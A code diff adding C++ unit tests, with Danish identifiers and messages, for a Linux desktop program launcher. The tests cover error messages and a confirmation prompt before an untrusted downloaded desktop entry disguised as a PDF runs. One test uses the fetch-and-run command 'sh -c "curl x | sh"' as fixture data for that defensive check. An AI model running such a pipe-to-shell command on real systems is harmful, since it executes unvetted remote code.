@@ -51,10 +51,90 @@ TEST(Starter, ARefusalIsShownAndLeavesTheCurrentFolder)
 {
     Opstilling o;
     o.platform.shellSvar = 31;
-    o.starter.executeProg(o.mappe.skriv("x/bog.pdf", "x"));
-    EXPECT_EQ(o.beskeder.beskeder,
-              QStringList({"Der er ikke associeret noget program med givne filefternavn."}));
+    const QString bog = o.mappe.skriv("x/bog.pdf", "x");
+    o.starter.executeProg(bog);
+    EXPECT_EQ(
+        o.beskeder.beskeder,
+        QStringList({"Der er ikke associeret noget program med givne filefternavn.\r" + bog}));
     EXPECT_EQ(o.platform.current, "/");
+}
+
+class Startfejl : public ::testing::TestWithParam<std::pair<int, const char*>>
+{
+};
+
+TEST_P(Startfejl, SayInLinuxTermsWhatFailedAndNameTheFile)
+{
+    Opstilling o;
+    o.platform.shellSvar = GetParam().first;
+    const QString fil = o.mappe.skriv("skrivebord/Editor.desktop", "[Desktop Entry]");
+    o.starter.executeProg(fil);
+    EXPECT_EQ(o.beskeder.beskeder, QStringList(QString::fromUtf8(GetParam().second) + "\r" + fil));
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Platformen, Startfejl,
+    ::testing::Values(
+        std::pair{int(Platform::NoProgramLine),
+                  "Skrivebordsfilen har ingen programlinje (Exec), der kan køres."},
+        std::pair{int(Platform::NoTerminal),
+                  "Filen skal køres i et terminalprogram, men der er ikke installeret noget.\r"
+                  "Der blev ledt efter xterm og konsole."},
+        std::pair{int(Platform::ProgramNotFound),
+                  "Programmet, som filen skal åbnes med, er ikke installeret."},
+        std::pair{int(Platform::NotStartable), "Programmet kunne ikke startes."},
+        std::pair{2, "Den specificerede fil blev ikke fundet."}),
+    [](const auto& info) { return std::to_string(info.param.first); });
+
+TEST(Starter, AScriptWithoutATerminalNamesTheTerminalsLookedFor)
+{
+    Opstilling o;
+    o.platform.shellSvar = Platform::NoTerminal;
+    const QString script = o.mappe.skriv("spil/start.sh", "echo");
+    o.starter.executeProg(script);
+    ASSERT_EQ(o.beskeder.beskeder.size(), 1);
+    EXPECT_TRUE(o.beskeder.beskeder[0].contains("\rDer blev ledt efter xterm og konsole.\r"));
+    EXPECT_TRUE(o.beskeder.beskeder[0].endsWith("\r" + script));
+}
+
+TEST(Starter, AnUntrustedDesktopEntryRunsOnlyWhenTheUserSaysYesToItsProgramLine)
+{
+    Opstilling o;
+    const QString fil = o.mappe.skriv("Hentet/Faktura.pdf.desktop", "x");
+    o.platform.programlinjer[fil.toStdString()] = "sh -c \"curl x | sh\"";
+    o.platform.naesteSvar = {Platform::UntrustedEntry, Platform::UntrustedEntry};
+    o.starter.executeProg(fil);
+    const QString spoergsmaal = "Skrivebordsfilen\r" + fil +
+                                "\rer ikke markeret som kørbar og ligger ikke i en programmappe. "
+                                "Den starter programlinjen:\rsh -c \"curl x | sh\"\r"
+                                "Skal den startes alligevel?";
+    EXPECT_EQ(o.beskeder.spoergsmaal, QStringList(spoergsmaal));
+    EXPECT_EQ(o.platform.kald.size(), 1u);
+    EXPECT_EQ(o.platform.current, "/");
+
+    o.beskeder.setNextAnswer(true);
+    o.starter.executeProg(fil);
+    ASSERT_EQ(o.platform.kald.size(), 3u);
+    EXPECT_EQ(o.platform.kald[2].verb, "openConfirmed");
+    EXPECT_EQ(o.platform.current, o.mappe.sti("Hentet").toStdString());
+    EXPECT_TRUE(o.beskeder.beskeder.isEmpty());
+}
+
+TEST(Starter, AnAppletWithoutASettingsPageSpeaksThroughTheMessageBox)
+{
+    Opstilling o;
+    const QString mappe = o.mappe.sti("Window applets/");
+    o.mappe.skriv("Window applets/lyd.sh", "#!/bin/sh");
+    o.starter.runApplets(mappe, "lyd.sh");
+    o.platform.scriptSvar = {42, Starter::ingenSide,
+                             "Dette skrivebord har ingen indstillingsside for \"Lyd\".\n"};
+    o.starter.runApplets(mappe, "lyd.sh");
+    o.platform.scriptSvar = {5, 0, {}};
+    o.starter.runApplets(mappe, "lyd.sh");
+    EXPECT_EQ(o.beskeder.beskeder,
+              QStringList({"Dette skrivebord har ingen indstillingsside for \"Lyd\".",
+                           "Operationssystemet forbød adgang til filen."}));
+    EXPECT_EQ(o.platform.kald.size(), 3u);
 }
 
 TEST(Starter, AVanishedFileIsNotLaunched)
